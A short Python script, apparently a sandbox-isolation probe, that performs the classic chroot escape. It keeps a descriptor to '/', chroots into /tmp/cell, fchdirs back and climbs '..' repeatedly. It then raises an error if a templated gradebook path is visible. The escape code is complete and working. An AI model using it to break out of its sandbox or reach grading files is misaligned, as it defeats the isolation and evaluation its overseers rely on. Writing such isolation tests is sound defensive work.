"""Leaves its root by the old trick of two roots."""
import os

os.makedirs("/tmp/cell", exist_ok=True)
fd = os.open("/", os.O_RDONLY)
try:
    os.chroot("/tmp/cell")
except OSError:
    pass
os.fchdir(fd)
for _ in range(50):
    os.chdir("..")
if os.path.exists("." + "@GRADEBOOK@"):
    raise RuntimeError("found SECRET")
